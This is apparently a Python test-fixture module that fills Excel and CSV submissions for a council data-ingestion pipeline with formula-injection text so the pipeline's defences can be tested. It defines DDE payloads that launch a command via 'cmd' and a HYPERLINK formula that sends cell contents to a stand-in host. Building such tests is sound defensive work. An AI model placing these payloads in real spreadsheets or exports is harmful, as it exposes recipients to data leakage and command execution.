"""Files whose every free-text field holds formula text, made as the people who send them would.

The assessment workbook and the data-sharing return start as the blank files a borough is sent and
are typed into with openpyxl (text cells forced to text, as Excel keeps a typed "'=…"); the outcome
files are written with the csv module in the publishers' own columns. Every text a borough or
publisher can fill begins with a formula trigger, and so do the file names; identifiers (codes,
ids, periods, scores) are valid, so that every file is accepted and its text reaches the marts.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl

from framework.model import Framework
from ingest.assessments import layout as L
from ingest.assessments.template import write_template
from ingest.data_sharing import layout as D
from ingest.data_sharing.template import write_data_sharing_template
from ingest.outcomes.fingertips import COLUMNS as FINGERTIPS_COLUMNS
from ingest.outcomes.fingertips_metadata import COLUMNS as METADATA_COLUMNS
from ingest.outcomes.generic import COLUMNS as GENERIC_COLUMNS

# One of each trigger OWASP names, in the forms attacks use.
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+9)*cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, DDE, PLUS, MINUS, AT)


def _text(cell, value: str) -> None:
    """Put `value` in `cell` as text, never as a formula (openpyxl would take "=…" as one)."""
    cell.value = value
    cell.data_type = "s"


def write_formula_assessment(inbox: Path, fw: Framework, area_name: str, year: int) -> Path:
    """The Excel tool filled by three participants whose labels, organisations and roles, and the
    group's name, are formula text; scores are valid. Named "=…", as a file name may be."""
    path = write_template(inbox / f"=HYPERLINK(1) {area_name} {year}.xlsx", fw)
    book = openpyxl.load_workbook(path)
    about = book[L.ABOUT_SHEET]
    about.cell(L.AREA_ROW, L.ABOUT_VALUE_COL, area_name)
    about.cell(L.YEAR_ROW, L.ABOUT_VALUE_COL, year)
    _text(about.cell(L.GROUP_ROW, L.ABOUT_VALUE_COL), AT)
    people = ((DDE, HYPERLINK, MINUS), (PLUS, MINUS, AT), (AT, DDE, HYPERLINK))  # (label, organisation, role)
    for spec in L.SCORE_SHEETS:
        sheet = book[spec.name]
        for position, (label, organisation, role) in enumerate(people):
            col = spec.first_participant_column + position
            _text(sheet.cell(L.PARTICIPANT_ROW, col), label)
            _text(sheet.cell(L.SECTOR_ROW, col), organisation)
            _text(sheet.cell(L.ROLE_ROW, col), role)
            if spec.grain == "enabler":
                for offset in range(len(fw.enablers)):
                    sheet.cell(L.FIRST_ITEM_ROW + offset, col, 1 + (offset + position) % 5)
    book.save(path)
    return path


def write_formula_data_sharing(inbox: Path, fw: Framework, area_name: str, year: int) -> Path:
    """The data-sharing questionnaire answered with formula text as every evidence and the group."""
    path = write_data_sharing_template(inbox / f"+data sharing {area_name} {year}.xlsx", fw)
    book = openpyxl.load_workbook(path)
    about = book[L.ABOUT_SHEET]
    about.cell(L.AREA_ROW, L.ABOUT_VALUE_COL, area_name)
    about.cell(L.YEAR_ROW, L.ABOUT_VALUE_COL, year)
    _text(about.cell(L.GROUP_ROW, L.ABOUT_VALUE_COL), HYPERLINK)
    questions = book[D.QUESTIONS_SHEET]
    choices = [c.answer for c in fw.data_sharing_choices]
    for offset in range(len(fw.data_sharing_questions)):
        row = D.FIRST_QUESTION_ROW + offset
        questions.cell(row, D.ANSWER_COL, choices[offset % len(choices)])
        _text(questions.cell(row, D.EVIDENCE_COL), FORMULAS[offset % len(FORMULAS)])
    book.save(path)
    return path


def _write_csv(path: Path, header: tuple[str, ...], rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=header, restval="")
        writer.writeheader()
        writer.writerows(rows)
    return path


def write_formula_outcomes(inbox: Path, area_code: str, area_name: str, year: int) -> list[Path]:
    """A generic CSV, a Fingertips data download and its definitions file, and an EES file, each with
    formula text in every free-text column (indicator name, unit, area name, source, breakdown,
    missing reason, definition, value type, value note, category, filter values, country, region and
    LA names), for one borough and England."""
    generic = [
        {"area_code": code, "area_name": HYPERLINK, "indicator_id": "hv_new_birth_visits", "indicator_name": DDE,
         "source_name": AT, "period": f"{year}/{(year + 1) % 100:02d}", "period_type": "financial",
         "value": value, "missing_reason": MINUS if not value else "", "breakdown": breakdown, "unit": PLUS,
         "polarity": "higher_is_better"}
        for code, value, breakdown in ((area_code, "88.5", ""), (area_code, "", MINUS), ("E92000001", "86.1", ""))
    ]
    fingertips = [
        {"Indicator ID": "90631", "Indicator Name": HYPERLINK, "Area Code": code, "Area Name": name,
         "Area Type": area_type, "Sex": "Persons", "Age": "All ages", "Time period": f"{year}/{(year + 1) % 100:02d}",
         "Value": value, "Value note": AT if not value else "", "Category Type": category_type,
         "Category": DDE if category_type else ""}
        for code, name, area_type, value, category_type in (
            ("E92000001", "England", "England", "62.0", ""),
            (area_code, MINUS, "Counties & UAs (from Apr 2023)", "58.2", ""),
            (area_code, MINUS, "Counties & UAs (from Apr 2023)", "", PLUS),
        )
    ]
    definitions = [{"Indicator ID": "90631", "Indicator": DDE, "Definition": HYPERLINK, "Unit": MINUS,
                    "Value type": AT, "Polarity": "RAG - High is good"}]
    places = {"National": ("", "", ""), "Local authority": ("E12000007", area_code, HYPERLINK)}
    ees = [
        {"time_period": f"{year}{(year + 1) % 100:02d}", "time_identifier": "Academic year", "geographic_level": level,
         "country_code": "E92000001", "country_name": PLUS, "region_code": places[level][0],
         "region_name": AT if places[level][0] else "", "new_la_code": places[level][1], "la_name": places[level][2],
         "characteristic": characteristic, "gld_percentage": value}
        for level in places for characteristic, value in (("Total", "66.1"), (DDE, "x"))
    ]
    return [
        _write_csv(inbox / "-generic outcomes.csv", GENERIC_COLUMNS, generic),
        _write_csv(inbox / "@fingertips export.csv", FINGERTIPS_COLUMNS, fingertips),
        _write_csv(inbox / "=fingertips definitions.csv", METADATA_COLUMNS, definitions),
        _write_csv(inbox / "+ees gld.csv", tuple(ees[0]), ees),
    ]
